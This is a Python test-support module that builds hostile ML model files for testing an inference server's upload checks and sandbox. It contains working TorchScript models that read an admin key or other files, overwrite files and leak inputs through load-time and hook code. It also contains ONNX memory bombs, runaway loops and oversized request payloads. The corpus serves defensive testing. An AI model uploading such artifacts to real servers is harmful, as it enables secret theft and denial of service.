"""The hostile-model corpus: what a tenant who means harm would upload, built in code.

Every builder returns a :class:`Hostile`: the model as a ``ModelArtifact`` (the Triton
config and the file's bytes, so a sandbox test can load it straight into a worker through
the repository API, bypassing the upload check) and ``refusal``, the words the upload's
error must contain (None for a model that is valid and only misbehaves when it runs).

TorchScript (one FP32 input ``INPUT__0`` [1, 48] -> ``OUTPUT__0`` [1, 48], max_batch_size 0):
``read_file`` (``torch.from_file``: the admin-key attack from issue 8), ``write_file``
(``from_file(shared=True)`` writing the input's bytes into a host file), ``save_file``
(``torch.save``), ``network`` (a c10d collective, TorchScript's only way toward another
host), ``spawn_process`` (TorchScript has no process operation, so this archive was edited
after saving to call ``torch.ops.evil.spawn``, a custom op no runtime has), ``custom_class``
(a ``@torch.jit.script`` class), ``setstate_reads_file`` (``__setstate__`` runs inside
``torch.jit.load``) and ``hook_saves_file`` (a forward pre-hook, outside ``forward``).

ONNX (``INPUT0`` FP32): ``custom_domain``, ``constant_fold_bomb`` (ConstantOfShape of
[100000, 100000]: 40 GB folded at load from ~200 bytes), ``sparse_bomb`` (a sparse
initializer whose dense form is as big) and ``runaway_loop`` (valid: a Loop whose trip
count is the input ``TRIPS``; only a time limit stops it).

Request bombs for the request-bounds tests: ``bytes_shape_bomb_http`` and ``deep_json``.
"""

from __future__ import annotations

import io
import json
import zipfile
from dataclasses import dataclass, field
from typing import Any

import numpy as np
from onnx import TensorProto, helper, numpy_helper

from tests.support.models import ONNX_IR_VERSION, ONNX_OPSET, ModelArtifact

SIZE = 48  # bytes a TorchScript attack reads or writes: the length of an admin key


@dataclass(frozen=True, slots=True)
class Hostile:
    artifact: ModelArtifact
    refusal: str | None  # what the upload's error names; None: valid, refused by nothing
    upload: dict[str, Any] = field(default_factory=dict)  # upload options the format needs

    @property
    def data(self) -> bytes:
        return self.artifact.data


# --------------------------------------------------------------------------- TorchScript

_TS_IO = [{"name": "INPUT__0", "datatype": "FP32", "dims": [1, SIZE]}]
_TS_OUT = [{"name": "OUTPUT__0", "datatype": "FP32", "dims": [1, SIZE]}]


def _torchscript(name: str, module: Any, refusal: str) -> Hostile:
    import torch

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(module), buf)
    return _ts_hostile(name, buf.getvalue(), refusal)


def _ts_hostile(name: str, data: bytes, refusal: str) -> Hostile:
    config = {"name": name, "platform": "pytorch_libtorch", "max_batch_size": 0,
              "input": [{"name": "INPUT__0", "data_type": "TYPE_FP32", "dims": [1, SIZE]}],
              "output": [{"name": "OUTPUT__0", "data_type": "TYPE_FP32", "dims": [1, SIZE]}]}
    return Hostile(ModelArtifact(config, "model.pt", data), refusal,
                   {"inputs": _TS_IO, "outputs": _TS_OUT, "max_batch_size": 0})


def read_file(path: str, name: str = "read_file") -> Hostile:
    """forward returns the first 48 bytes of ``path`` (say the data dir's admin.key)."""
    import torch

    class ReadFile(torch.nn.Module):
        def __init__(self, path: str) -> None:
            super().__init__()
            self.path = path

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            stolen = torch.from_file(self.path, shared=False, size=48, dtype=torch.uint8)
            return x * 0 + stolen.float().reshape(1, 48)

    return _torchscript(name, ReadFile(path), "aten::from_file")


def write_file(path: str, name: str = "write_file") -> Hostile:
    """forward writes its input's bytes over the first 48 bytes of ``path``."""
    import torch

    class WriteFile(torch.nn.Module):
        def __init__(self, path: str) -> None:
            super().__init__()
            self.path = path

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            target = torch.from_file(self.path, shared=True, size=48, dtype=torch.uint8)
            target.copy_(x.reshape(-1).to(torch.uint8))
            return x + target.float().reshape(1, 48) * 0

    return _torchscript(name, WriteFile(path), "aten::from_file")


def save_file(path: str, name: str = "save_file") -> Hostile:
    """forward writes its input to ``path`` with torch.save (aten::save)."""
    import torch

    class SaveFile(torch.nn.Module):
        def __init__(self, path: str) -> None:
            super().__init__()
            self.path = path

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            torch.save(x, self.path)
            return x

    return _torchscript(name, SaveFile(path), "aten::save")


def network(name: str = "network") -> Hostile:
    """forward all-reduces its input over a process group: traffic to other hosts."""
    import torch

    class Network(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.ops._c10d_functional.all_reduce(x, "sum", "default")

    return _torchscript(name, Network(), "_c10d_functional::all_reduce")


def spawn_process(name: str = "spawn_process") -> Hostile:
    """An archive whose forward calls ``torch.ops.evil.spawn(x)``: saved calling tanh, then
    edited (TorchScript serializes ops as source; custom ops read ``ops.<ns>.<op>``), with
    the debug tables that map the old source dropped."""
    import torch

    class Tanh(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.tanh(x)

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(Tanh()), buf)
    edited = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src, zipfile.ZipFile(edited, "w") as dst:
        for item in src.infolist():
            if item.filename.endswith(".debug_pkl"):
                continue
            data = src.read(item)
            if "/code/" in item.filename and item.filename.endswith(".py"):
                assert b"torch.tanh(" in data
                data = data.replace(b"torch.tanh(", b"ops.evil.spawn(")
            dst.writestr(item, data)
    return _ts_hostile(name, edited.getvalue(), "evil::spawn")


def custom_class(name: str = "custom_class") -> Hostile:
    """forward builds an object of a ``@torch.jit.script`` class (code outside any module)."""
    import torch

    @torch.jit.script
    class Accumulator:
        def __init__(self, start: float) -> None:
            self.total = start

        def add(self, v: float) -> float:
            self.total += v
            return self.total

    class UsesClass(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            acc = Accumulator(0.0)
            return x + acc.add(1.0)

    return _torchscript(name, UsesClass(), "Accumulator")


def setstate_reads_file(path: str, name: str = "setstate_reads_file") -> Hostile:
    """``__setstate__`` reads ``path`` while ``torch.jit.load`` rebuilds the module."""
    import torch

    class LoadsFile(torch.nn.Module):
        def __init__(self, path: str) -> None:
            super().__init__()
            self.path = path
            self.stolen = torch.zeros(48)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + self.stolen.reshape(1, 48)

        @torch.jit.export
        def __getstate__(self) -> tuple[str, bool]:
            return self.path, self.training

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]) -> None:
            self.path = state[0]
            self.training = state[1]
            self.stolen = torch.from_file(self.path, shared=False, size=48, dtype=torch.uint8).float()

    return _torchscript(name, LoadsFile(path), "__setstate__")


def hook_saves_file(path: str, name: str = "hook_saves_file") -> Hostile:
    """A clean forward, and a forward pre-hook that torch.saves the input to ``path``."""
    import torch

    class Clean(torch.nn.Module):
        def __init__(self, path: str) -> None:
            super().__init__()
            self.path = path

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + 1

    def leak(module: Clean, inputs: tuple[torch.Tensor]) -> None:
        torch.save(inputs[0], module.path)

    module = Clean(path)
    module.register_forward_pre_hook(leak)
    return _torchscript(name, module, "aten::save")


# --------------------------------------------------------------------------- ONNX


def _onnx(name: str, graph: Any, inputs: list[dict[str, Any]], outputs: list[dict[str, Any]],
          refusal: str | None, opsets: tuple[tuple[str, int], ...] = ()) -> Hostile:
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", ONNX_OPSET),
                                                    *(helper.make_opsetid(d, v) for d, v in opsets)])
    model.ir_version = ONNX_IR_VERSION
    config = {"name": name, "platform": "onnxruntime_onnx", "max_batch_size": 0,
              "input": inputs, "output": outputs}
    return Hostile(ModelArtifact(config, "model.onnx", model.SerializeToString()), refusal)


def _fp32(name: str, dims: list[int]) -> dict[str, Any]:
    return {"name": name, "data_type": "TYPE_FP32", "dims": dims}


def custom_domain(name: str = "custom_domain") -> Hostile:
    """A node of the custom domain ``com.evil``: code the runtime would have to bring."""
    graph = helper.make_graph(
        [helper.make_node("ReadFile", ["INPUT0"], ["OUTPUT0"], domain="com.evil")], "custom_domain",
        [helper.make_tensor_value_info("INPUT0", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("OUTPUT0", TensorProto.FLOAT, [1, 4])])
    return _onnx(name, graph, [_fp32("INPUT0", [1, 4])], [_fp32("OUTPUT0", [1, 4])],
                 "custom domain 'com.evil'", opsets=(("com.evil", 1),))


BOMB_SHAPE = [100_000, 100_000]


def constant_fold_bomb(name: str = "constant_fold_bomb") -> Hostile:
    """OUTPUT0 = INPUT0 + sum(ConstantOfShape([100000, 100000])): ONNX Runtime folds the
    constant branch while it creates the session, allocating 40 GB."""
    shape = numpy_helper.from_array(np.array(BOMB_SHAPE, np.int64), "bomb_shape")
    graph = helper.make_graph(
        [helper.make_node("ConstantOfShape", ["bomb_shape"], ["bomb"], name="bomb",
                          value=helper.make_tensor("one", TensorProto.FLOAT, [1], [1.0])),
         helper.make_node("ReduceSum", ["bomb"], ["total"], keepdims=0),
         helper.make_node("Add", ["INPUT0", "total"], ["OUTPUT0"])],
        "constant_fold_bomb",
        [helper.make_tensor_value_info("INPUT0", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("OUTPUT0", TensorProto.FLOAT, [1, 4])],
        initializer=[shape])
    return _onnx(name, graph, [_fp32("INPUT0", [1, 4])], [_fp32("OUTPUT0", [1, 4])], "ConstantOfShape")


def sparse_bomb(name: str = "sparse_bomb") -> Hostile:
    """A sparse initializer of one stored value whose dense form (what the runtime makes of
    it at load) is [100000, 100000] FP32."""
    values = numpy_helper.from_array(np.array([1.0], np.float32), "W")
    indices = numpy_helper.from_array(np.array([0], np.int64), "W_indices")
    sparse = helper.make_sparse_tensor(values, indices, BOMB_SHAPE)
    graph = helper.make_graph(
        [helper.make_node("ReduceSum", ["W"], ["total"], keepdims=0),
         helper.make_node("Add", ["INPUT0", "total"], ["OUTPUT0"])],
        "sparse_bomb",
        [helper.make_tensor_value_info("INPUT0", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("OUTPUT0", TensorProto.FLOAT, [1, 4])],
        sparse_initializer=[sparse])
    return _onnx(name, graph, [_fp32("INPUT0", [1, 4])], [_fp32("OUTPUT0", [1, 4])], "sparse initializer")


LOOP_WIDTH = 64


def runaway_loop(name: str = "runaway_loop", *, float_trips: bool = False) -> Hostile:
    """OUTPUT0 = (x -> tanh(x @ W)) applied TRIPS times: valid, verified, profiled in no time
    with TRIPS = 0, and with TRIPS = 45,000,000 holds a core for minutes. With
    ``float_trips`` the trip count is |TRIPS| of an FP32 input, cast: profiling's random
    normal floats make it loop a few times only, so it also passes profiling's exercise
    run (large integers); only the execution bound stops it."""
    w = (np.random.default_rng(7).standard_normal((LOOP_WIDTH, LOOP_WIDTH)) / 8).astype(np.float32)
    body = helper.make_graph(
        [helper.make_node("MatMul", ["state_in", "W"], ["product"]),
         helper.make_node("Tanh", ["product"], ["state_out"]),
         helper.make_node("Identity", ["cond_in"], ["cond_out"])],
        "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []),
         helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("state_in", TensorProto.FLOAT, [1, LOOP_WIDTH])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("state_out", TensorProto.FLOAT, [1, LOOP_WIDTH])])
    to_trips = ([helper.make_node("Abs", ["TRIPS"], ["abs_trips"]),
                 helper.make_node("Cast", ["abs_trips"], ["int_trips"], to=TensorProto.INT64),
                 helper.make_node("Squeeze", ["int_trips"], ["trips"])] if float_trips
                else [helper.make_node("Squeeze", ["TRIPS"], ["trips"])])
    trips_type = TensorProto.FLOAT if float_trips else TensorProto.INT64
    graph = helper.make_graph(
        [*to_trips,
         helper.make_node("Loop", ["trips", "keep_going", "INPUT0"], ["OUTPUT0"], body=body)],
        "runaway_loop",
        [helper.make_tensor_value_info("TRIPS", trips_type, [1]),
         helper.make_tensor_value_info("INPUT0", TensorProto.FLOAT, [1, LOOP_WIDTH])],
        [helper.make_tensor_value_info("OUTPUT0", TensorProto.FLOAT, [1, LOOP_WIDTH])],
        initializer=[numpy_helper.from_array(w, "W"),
                     numpy_helper.from_array(np.array(True), "keep_going")])
    inputs = [{"name": "TRIPS", "data_type": "TYPE_FP32" if float_trips else "TYPE_INT64", "dims": [1]},
              _fp32("INPUT0", [1, LOOP_WIDTH])]
    return _onnx(name, graph, inputs, [_fp32("OUTPUT0", [1, LOOP_WIDTH])], None)


def runaway_torchscript(name: str = "runaway_torchscript") -> Hostile:
    """The same runaway in TorchScript (INPUT__0 = trips, INPUT__1 = state): verified (pure
    tensor ops in a loop), and libtorch cannot be interrupted, so only killing its host
    stops it."""
    import torch

    class Runaway(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.w = torch.nn.Parameter(torch.randn(LOOP_WIDTH, LOOP_WIDTH) / 8, requires_grad=False)

        def forward(self, trips: torch.Tensor, x: torch.Tensor) -> torch.Tensor:
            for _ in range(int(trips[0])):
                x = torch.tanh(x @ self.w)
            return x

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(Runaway()), buf)
    config = {"name": name, "platform": "pytorch_libtorch", "max_batch_size": 0,
              "input": [{"name": "INPUT__0", "data_type": "TYPE_INT64", "dims": [1]},
                        {"name": "INPUT__1", "data_type": "TYPE_FP32", "dims": [1, LOOP_WIDTH]}],
              "output": [{"name": "OUTPUT__0", "data_type": "TYPE_FP32", "dims": [1, LOOP_WIDTH]}]}
    upload = {"inputs": [{"name": "INPUT__0", "datatype": "INT64", "dims": [1]},
                         {"name": "INPUT__1", "datatype": "FP32", "dims": [1, LOOP_WIDTH]}],
              "outputs": [{"name": "OUTPUT__0", "datatype": "FP32", "dims": [1, LOOP_WIDTH]}],
              "max_batch_size": 0}
    return Hostile(ModelArtifact(config, "model.pt", buf.getvalue()), None, upload)


def torchscript_corpus(victim: str) -> list[Hostile]:
    """Every TorchScript attack, aimed at the file ``victim``."""
    return [read_file(victim), write_file(victim), save_file(victim), network(), spawn_process(),
            custom_class(), setstate_reads_file(victim), hook_saves_file(victim)]


def onnx_corpus() -> list[Hostile]:
    """Every ONNX model the upload check must refuse."""
    return [custom_domain(), constant_fold_bomb(), sparse_bomb()]


# --------------------------------------------------------------------------- request bombs


def bytes_shape_bomb_http(input_name: str = "INPUT0", elements: int = 100_000_000) -> tuple[bytes, dict[str, str]]:
    """A ~60-byte binary v2 request whose BYTES input claims ``elements`` elements in 5
    bytes of data: (body, headers) for POST /v2/models/<m>/infer."""
    data = b"\x01\x00\x00\x00x"  # one element of length 1
    header = json.dumps({"inputs": [{"name": input_name, "datatype": "BYTES", "shape": [1, elements],
                                     "parameters": {"binary_data_size": len(data)}}]}).encode()
    return header + data, {"Inference-Header-Content-Length": str(len(header)),
                           "Content-Type": "application/octet-stream"}


def deep_json(depth: int = 50_000) -> bytes:
    """A JSON body nested ``depth`` arrays deep."""
    return b'{"inputs": ' + b"[" * depth + b"]" * depth + b"}"
